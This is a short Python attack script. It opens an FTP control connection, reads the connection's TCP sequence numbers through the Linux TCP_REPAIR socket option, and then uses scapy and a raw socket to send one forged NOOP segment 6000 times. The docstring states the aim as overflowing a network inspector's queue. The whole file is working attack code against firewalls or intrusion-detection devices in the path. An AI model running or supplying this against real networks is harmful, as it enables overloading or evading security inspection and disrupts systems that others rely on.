"""Repeat one segment of a control connection 6000 times: more than an inspector's queue holds.

Segments with text are what is queued, and one that comes again is as good as the first. tcp(7)'s
TCP_REPAIR tells the sequence numbers of a connection.
"""

from __future__ import annotations

import socket
import sys

from scapy.layers.inet import IP, TCP

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
RECEIVED, SENT = 1, 2

server = sys.argv[1]
with socket.create_connection((server, 21)) as control:
    control.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    numbers = []
    for queue in (SENT, RECEIVED):
        control.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        numbers.append(control.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF)
    client, port = control.getsockname()
    header = TCP(sport=port, dport=21, flags="PA", seq=numbers[0], ack=numbers[1])
    segment = bytes(IP(src=client, dst=server) / header / b"NOOP\r\n")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(6000):
            raw.sendto(segment, (server, 0))
